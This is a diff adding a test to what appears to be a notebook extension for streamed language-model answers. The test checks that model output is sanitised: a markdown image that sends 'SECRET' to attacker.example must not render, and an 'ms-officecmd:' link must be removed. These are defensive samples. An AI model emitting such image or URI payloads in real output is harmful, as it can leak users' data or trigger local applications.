@@ -209,3 +209,14 @@ def test_control_characters_from_the_model_never_reach_the_terminal(ip, wire_ser
     assert "Blue[2J\tlight31m.\nEnd." in cap.stdout
     assert not any(ch in cap.stdout for ch in "\x1b\x07\x9b\r")
     assert ip.user_ns["_think"].answer == f"Blue{clear}\tlight{c1}.\nEnd\r."  # saved as sent
+
+
+def test_links_and_images_in_a_streamed_answer_are_made_safe(ip, wire_server):
+    answer = "See ![x](https://attacker.example/?q=SECRET) and [run](ms-officecmd:x)."
+    wire_server.route("POST", CHAT, Reply.sse(wf.chat_sse("r", answer), chunking="random"))
+    cap = think_cell(ip, f"--model llamacpp:m --base-url {wire_server.url}", "Hi")
+    [output] = cap.outputs
+    for shown in (output.data["text/html"], output.data["text/markdown"]):
+        assert "<img" not in shown and "![" not in shown
+        assert 'href="https://attacker.example/?q=SECRET"' in shown
+        assert 'href="ms-officecmd' not in shown
